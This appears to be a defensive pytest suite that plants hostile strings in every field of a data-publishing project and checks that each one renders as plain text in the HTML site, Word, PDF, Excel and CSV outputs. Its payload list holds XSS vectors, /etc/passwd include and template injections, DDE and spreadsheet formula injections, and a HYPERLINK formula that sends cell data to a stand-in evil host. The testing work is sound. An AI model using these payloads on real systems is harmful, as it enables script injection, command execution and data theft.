"""Hostile text in every field of text of a root is text and nothing else, in every page and file that is made of it."""

import csv
import io
import itertools
import json
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote, unquote

import pytest
import yaml
from lxml import etree
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from pypdf import PdfReader

from ncthelpers.accessibility import browser
from ncthelpers.cells import visible
from ncthelpers.charts.canvas import in_letters
from ncthelpers.yaml_files import read_yaml

pytestmark = [pytest.mark.browser, pytest.mark.slow]

YEAR = "2024-25"
HOSTILE = (
    # markup
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "<!-- a --> <!--",
    '<a href="javascript:alert(1)">a</a>', "</textarea></title></style></script><svg onload=alert(1)>", "]]></p></td></table>",
    "&lt;b&gt; &amp;amp; &#60;i&#62;", 'http://evil.example/" onclick="alert(1)', "\\u003cscript\\u003e';alert(1);//",
    # Markdown, MyST and templates
    "[a](javascript:alert(1))", "![p](http://evil.example/p.png) <http://evil.example> http://evil.example/a",
    "**bold** _it_ `code` # h | pipe | ~~x~~", "```{code-cell}\nprint(1)\n```", "````\n```{eval-rst}\n.. raw:: html\n\n   <b>a</b>\n```",
    ":::{include} /etc/passwd\n:::", "{download}`/etc/passwd` {{ 7*7 }} {% raw %} {{ config }}", "(target)= % comment +++ ---",
    "% a", "+++ a", "- a", "1. a", "--- a", ": a", "a ![b", "%s %(x)s {0} {contract_year} $HOME `id`",
    # LaTeX and typst
    r"$\input{/etc/passwd}$ \href{javascript:alert(1)}{a} $$x$$", '#read("/etc/passwd") #import "a" $ @a *b* \\ //',
    # formulas, and what Office reads as its own
    '=HYPERLINK("http://evil.example/?"&A1,"a")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "_x000D_ _x0041_", "</w:t></w:r><w:instrText>DDEAUTO c</w:instrText>",
    # letters
    "a\u202ecba\u202c", "a\u200bb\u200d\ufeffc", "\N{FOX FACE}\U0001d518\U0001f3f4\u200d\u2620\ufe0f", "a\u2028b\x85c", "a\U000e0041",
    "W" * 300, "a\nb",
)  # fmt: skip
# Of commentary the Markdown and the placeholders are read, and figures are refused.
IN_COMMENTARY = [text.replace("1", "") for text in HOSTILE if text[0] in "<\"'[=@]"]
# Texts that are read by a grammar of their own, in which other words are faults.
READ = {
    ("claims", "check"), ("claims", "against"), ("claims", "basis"), ("claims", "later"), ("escalations", "subject"),
    ("escalations", "owner"), ("rap_points", "proof"), ("cover_titles", "value"),
}  # fmt: skip

LONG = "x" * 32_000  # letters; a cell of Excel holds 32,767
LONG_IN = {("risks", "what"), ("property", "maintenance_schedule"), ("glossary", "meaning")}
TOKEN = re.compile("zq[a-z]{4}")


class Planted(NamedTuple):
    """A hostile text where it was put: the kind of file, the field, and the text, which ends in a word of its own."""

    kind: str
    field: str
    text: str


class Planter:
    """Puts hostile texts into fields, one after another, each with a word by which it is found again."""

    def __init__(self):
        self.planted, self._texts, self._known = {}, itertools.cycle(HOSTILE), {}
        self._words = map("".join, itertools.product("abcdefghijklmnopqrstuvwxyz", repeat=4))

    def text(self, kind, field, of=None):
        """The next hostile text, or the one given."""
        word, text = f"zq{next(self._words)}", of or next(self._texts)
        self.planted[word] = Planted(kind, field, text)
        return f"{text} {word}"

    def instead(self, kind, field, old, of=None):
        """A hostile text in the place of an old one: the same wherever that stands in a field, for rows refer to each other."""
        if (field, old) not in self._known:
            self._known[field, old] = self.text(kind, field, of)
        return self._known[field, old]

    def entries(self, kind, held, *fields):
        """Hostile texts in some fields of every entry of a list, where they are given."""
        for entry in held:
            entry |= {field: self.text(kind, field) for field in fields if entry.get(field)}


def _yaml(path):
    return read_yaml(path.read_text("utf-8"))


def _write_yaml(path, held):
    path.write_text(yaml.safe_dump(held, allow_unicode=True, sort_keys=False), "utf-8")


def _in_tables(root, planter):
    """Every column of text of every table, and what the schemas say of tables and columns."""
    for folder, schemas in ((YEAR, ""), ("reference", "reference")):
        for path in sorted((root / "data" / folder).glob("*.csv")):
            table, of = path.stem, root / "data" / "schemas" / schemas / f"{path.stem}.yml"
            columns = _yaml(of)["columns"]
            header, *rows = csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""))
            for at, name in enumerate(header):
                if columns[name]["type"] != "text" or columns[name].get("values") or (table, name) in READ:
                    continue
                field = columns[name].get("refers_to") or f"{table}.{name}"
                for nth, row in enumerate(row for row in rows if row[at]):
                    long = LONG if (table, name) in LONG_IN and not nth else None
                    row[at] = planter.instead("tables", field, row[at], long)
            with path.open("w", encoding="utf-8", newline="") as file:
                csv.writer(file, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows([header, *rows])
    for path in sorted((root / "data" / "schemas").rglob("*.yml")):
        held = _yaml(path)
        planter.entries("schemas", [held, *held["columns"].values()], "title", "meaning")
        _write_yaml(path, held)


def _around_tables(root, planter):
    """What people write beside the tables: terms, documents, publisher, contents, commentary, and what was recorded."""
    folder = root / "data" / YEAR
    contract = _yaml(folder / "contract.yml")
    planter.entries("contract.yml", [contract], "title")
    planter.entries("contract.yml", [contract["provider"], *contract["councils"]], "name")
    planter.entries("contract.yml", contract["terms"], "term", "value", "unit")
    planter.entries("contract.yml", contract["timetable"], "body", "what")
    contract["sign_off"] = [planter.text("contract.yml", "sign_off", text) for text in HOSTILE[:8]]
    _write_yaml(folder / "contract.yml", contract)
    for place in (folder, root / "data" / "reference"):
        package = _yaml(place / "datapackage.yml")
        planter.entries("datapackage.yml", [package], "title", "licence")
        planter.entries(
            "datapackage.yml",
            package["documents"],
            "title",
            "publisher",
            "date_note",
            "licence",
            "read_from",
            "address_note",
        )
        planter.entries("datapackage.yml", [*package.get("records", []), *package["resources"]], "title")
        planter.entries("datapackage.yml", package["resources"], "licence")
        _write_yaml(place / "datapackage.yml", package)
    publisher = _yaml(root / "data" / "publisher.yml")
    planter.entries("publisher.yml", [publisher], "body", "post")
    planter.entries("publisher.yml", [publisher["screen_reader"]], "with", "by")
    planter.entries("publisher.yml", publisher["faults"], "what", "criterion", "mended")
    publisher["formats"] = [planter.text("publisher.yml", "formats") for _ in HOSTILE]
    _write_yaml(root / "data" / "publisher.yml", publisher)
    contents = _yaml(root / "_toc.yml")
    contents["parts"] = [part for part in contents["parts"] if "2023-24" not in part["caption"]]  # for the sake of time
    planter.entries("_toc.yml", contents["parts"], "caption")
    for page in contents["parts"][-1]["chapters"][:6]:
        page["title"] = planter.text("_toc.yml", "title")
    _write_yaml(root / "_toc.yml", contents)
    words = "\n\n".join(planter.text("commentary", "04_cost", text) for text in IN_COMMENTARY)
    (folder / "commentary" / "04_cost.md").write_text(f"## overview\n{words}\n\nsource: report:4/0\n", "utf-8")
    results = root / "trials" / "results"
    results.mkdir(parents=True)
    row = {"tried": 1, "held": 1, "seconds": 1.0, "least": 1.0}
    said = ("title", "command", "date", "commit", "machine")
    held = {"name": "torture", **{field: planter.text("results", field) for field in said}}
    held |= {
        "rows": [{"what": planter.text("results", "what"), **row} for _ in HOSTILE],
        "left_out": [planter.text("results", "left_out") for _ in HOSTILE],
    }
    (results / "torture.json").write_text(json.dumps(held), "utf-8")


def _command(root, repository, *arguments):
    done = subprocess.run(
        [Path(sys.executable).with_name("ncthelpers"), "--root", root, *arguments], cwd=repository, capture_output=True,
        encoding="utf-8",
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr


class Made(NamedTuple):
    """What was made of a root full of hostile text: its site, what left the book, and what was planted, by its word."""

    site: Path
    out: Path
    planted: dict[str, Planted]


@pytest.fixture(scope="module")
def made(tmp_path_factory, repository):
    """The invented trust, hostile text in every field, made by the commands that anybody would use."""
    folder = tmp_path_factory.mktemp("hostile")
    root, planter = folder / "root", Planter()
    shutil.copytree(
        repository / "examples" / "inventshire", root, ignore=shutil.ignore_patterns("book", "_build", "2023-24")
    )
    _in_tables(root, planter)
    _around_tables(root, planter)
    for arguments in (["seal", "reference"], ["seal", YEAR], ["book"], ["export", YEAR, "--out", folder / "out"],
):  # fmt: skip
        _command(root, repository, *arguments)
    return Made(root / "_build" / "html", folder / "out", planter.planted)


# What is read, held against what was planted


def as_read(text):
    """A text as it is compared: without differences of case, white space and typographic quotation marks and dashes."""
    plain = visible(text).translate(str.maketrans("“”‘’–—", "\"\"''--"))
    return " ".join(re.sub("-+", "-", plain).split()).casefold()


def told(text, planted, read=as_read):
    """The words found in a text, and those before which what was planted with them does not stand as it is read."""
    plain = read(text)
    found = [word for word in TOKEN.finditer(plain) if word[0] in planted]
    return [word[0] for word in found], [
        (planted[word[0]], plain[max(0, word.start() - 60) : word.end()])
        for word in found
        if not plain[: word.start()].rstrip().endswith(read(planted[word[0]].text))
    ]


# In the browser

# What a page holds that text must not make, what text stands in an attribute, and what it says.
LOOK = """() => {
    const made = [], named = new Set();
    for (const one of document.querySelectorAll('*')) for (const {name, value} of one.attributes) {
        if (/^on|^srcdoc$/.test(name) || /^\\s*(javascript|vbscript|data:text)/i.test(value) || /^\\w+:\\/\\/evil/.test(one.getAttribute('href') || one.getAttribute('src') || ''))
            made.push(one.outerHTML.slice(0, 200));
        if (/zq[a-z]{4}/.test(value)) named.add(name);
    }
    for (const one of document.querySelectorAll('b, em, svg, iframe, object, embed, base, textarea, main img:not(figure.chart img)')) made.push(one.outerHTML.slice(0, 200));
    const hidden = document.createTreeWalker(document, NodeFilter.SHOW_COMMENT);
    while (hidden.nextNode()) if (/zq[a-z]{4}/.test(hidden.currentNode.data)) made.push(hidden.currentNode.data);
    const scripts = [...document.scripts].map(one => one.getAttribute('src')?.replace(/^(\\.\\.\\/)*|\\?.*/g, '') ?? one.textContent);
    const text = document.body.cloneNode(true);
    text.querySelectorAll('script, style').forEach(one => one.remove());
    text.querySelectorAll('br').forEach(one => one.replaceWith(' '));
    return [made, [...named], scripts, text.textContent];
}"""
NAMED = {
    "alt",
    "aria-label",
    "content",
    "download",
    "href",
    "id",
    "src",
    "title",
}  # ids and addresses hold letters and digits alone
RUN = {
    "searchindex.js",
    "_static/documentation_options.js",
    "_static/scripts/pydata-sphinx-theme.js",
    "_static/book.js",
    "_static/search.js",
}


class Tab:
    """A tab on the site as files of this computer, with the dialogs, errors and requests that there were."""

    def __init__(self, chromium, site):
        self.site, self.page, self.heard = site.resolve().as_uri(), chromium.new_page(), []
        self.page.on("dialog", lambda dialog: (self.heard.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.heard.append(f"error: {error}"))
        self.page.on("request", self._asked)

    def _asked(self, request):
        if not unquote(request.url).startswith(unquote(self.site)) and not request.url.startswith("data:image/svg+xml"):
            self.heard.append(f"request: {request.url}")

    def open(self, name):
        self.page.goto(f"{self.site}/{name}")
        return self.page.evaluate(LOOK)


@pytest.fixture(scope="module")
def html(made):
    """The site that Chromium is started for."""
    return made.site


@pytest.fixture
def tab(chromium, made):
    opened = Tab(chromium, made.site)
    yield opened
    opened.page.close()


def test_hostile_text_is_text_on_every_page(tab, made):
    found, wrong, scripts = set(), [], set()
    for name in browser.page_files(made.site):
        markup, named, run, text = tab.open(name)
        words, misread = told(text, made.planted)
        found.update(words)
        wrong += [(name, one) for one in (*markup, *misread, *set(named) - NAMED)]
        scripts |= {script for script in run if script not in RUN}
    assert (wrong, tab.heard) == ([], [])
    assert len(scripts) == 1 and not TOKEN.search(scripts.pop()), "the frame's own, which chooses light or dark"
    assert len(found) > 2500
    assert {made.planted[word].kind for word in found} == {planted.kind for planted in made.planted.values()}
    assert {made.planted[word].text for word in found} > set(HOSTILE), "each was shown somewhere"


def test_a_drawing_is_lines_and_shapes_alone(made):
    drawings = sorted((made.site / "charts").rglob("*.svg"))
    assert len(drawings) > 40
    parts = [one for path in drawings for one in etree.parse(path).iter(etree.Element)]
    assert {etree.QName(one).localname for one in parts} <= {
        "svg", "metadata", "RDF", "Work", "type", "format", "defs", "style", "g", "path", "use", "clipPath", "rect", "pattern",
    }  # fmt: skip
    names = {etree.QName(name).localname for one in parts for name in one.attrib}
    assert not any(name.startswith("on") for name in names)
    refers = {value for one in parts for name, value in one.attrib.items() if etree.QName(name).localname == "href"}
    assert all(value.startswith("#") for value in refers)


def test_hostile_text_is_text_in_what_the_search_finds(tab, made):
    meanings = [word for word, one in made.planted.items() if (one.kind, one.field) == ("schemas", "meaning")]
    of_each = {made.planted[word].text: word for word in meanings}
    shown, wrong = set(), []
    for asked in (*of_each.values(), *HOSTILE[:8]):
        tab.page.goto(f"{tab.site}/search.html?q={quote(asked)}")
        tab.page.wait_for_function("document.getElementById('search-said').textContent")
        markup, named, *_ = tab.page.evaluate(LOOK)
        words, misread = told(tab.page.locator("#search-results").text_content(), made.planted)
        shown.update(made.planted[word].text for word in words)
        misread = [one for one in misread if "…" not in one[1]]  # of a long text a part is shown
        wrong += [(asked, one) for one in (*markup, *misread, *set(named) - NAMED)]
        if asked in HOSTILE:
            assert tab.page.input_value("#search-words") == asked, "what was asked is text too"
    assert (wrong, tab.heard) == ([], [])
    assert shown >= set(HOSTILE)


# In what leaves the book

_W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
FIELDS = re.compile(r" (?:SEQ (?:Table|Figure) \\\* ARABIC|PAGE|NUMPAGES|TOC .*) ")
OPENED = re.compile(r"https://(?:example\.org|www\.gov\.uk)/")  # the addresses of publications


def parts_of(path):
    """The parts of an office file."""
    with zipfile.ZipFile(path) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def followed(parts):
    """The addresses outside a file that it refers to."""
    refers = [one for name, part in parts.items() if name.endswith(".rels") for one in etree.fromstring(part)]
    return {one.get("Target") for one in refers if one.get("TargetMode") == "External"}


def test_hostile_text_is_text_in_word(made):
    for name, least in (("annual_review", 1300), ("cover_report", 50)):
        parts = parts_of(made.out / f"{YEAR}_{name}.docx")
        written = [
            etree.fromstring(part) for name, part in parts.items() if name.startswith("word/") and name.endswith(".xml")
        ]
        lines = [
            "".join(text.text or "" for text in line.iter(f"{_W}t")) for part in written for line in part.iter(f"{_W}p")
        ]
        found, wrong = told("\n".join(lines), made.planted)
        assert (wrong, len(set(found)) > least) == ([], True)
        fields = {one.text for part in written for one in part.iter(f"{_W}instrText")}
        assert [field for field in fields if not FIELDS.fullmatch(field)] == []
        assert [address for address in followed(parts) if not OPENED.match(address)] == []
        assert not any("embed" in name or "vba" in name or "activeX" in name for name in parts)


def test_hostile_text_is_text_in_pdf(made):
    def letters(text):
        return re.sub("[\\s\u200b-\u200d\ufeff]", "", in_letters(visible(text))).casefold()

    for name, pages, least in (("annual_review", 30, 100), ("cover_report", 7, 50)):
        paper = PdfReader(made.out / f"{YEAR}_{name}.pdf")
        found, wrong = told("\n".join(page.extract_text() for page in paper.pages[:pages]), made.planted, letters)
        assert (wrong, len(set(found)) > least) == ([], True)
        assert not {"/OpenAction", "/AA", "/Names", "/AcroForm"} & set(paper.trailer["/Root"])
        for one in (one.get_object() for page in paper.pages for one in page.get("/Annots") or []):
            does = one["/A"].get_object() if "/A" in one else {"/S": "/GoTo"}
            assert one["/Subtype"] == "/Link" and does["/S"] in {"/GoTo", "/URI"} and "/AA" not in one
            assert does["/S"] == "/GoTo" or OPENED.match(does["/URI"])


def test_hostile_text_is_text_in_excel(made):
    parts = parts_of(made.out / f"{YEAR}_tables.xlsx")
    assert not any("externalLink" in name or "vba" in name or "connections" in name for name in parts)
    assert followed(parts) == set()
    assert [name for name, part in parts.items() if b"<f>" in part or b"<f " in part] == []
    cells = [
        cell
        for sheet in load_workbook(made.out / f"{YEAR}_tables.xlsx")
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert {cell.data_type for cell in cells} == {"s"}
    found, wrong = told("\n".join(unescape(cell.value) for cell in cells), made.planted)
    assert (wrong, len(set(found)) > 1500) == ([], True)


def test_hostile_text_is_text_in_open_data(made):
    tables = [part for name, part in parts_of(made.out / f"{YEAR}_open_data.zip").items() if name.endswith(".csv")]
    beside = [path.read_bytes() for path in (made.site / "data").rglob("*.csv")]
    for held, least in ((tables, 1000), (beside, 1300)):
        rows = [row for table in held for row in csv.reader(io.StringIO(table.decode(), newline=""))]
        found, wrong = told("\n".join(cell for row in rows for cell in row), made.planted)
        assert (wrong, len(set(found)) > least) == ([], True)
        assert [cell for row in rows for cell in row if TOKEN.search(cell) and cell.lstrip()[:1] in set("=+-@")] == []
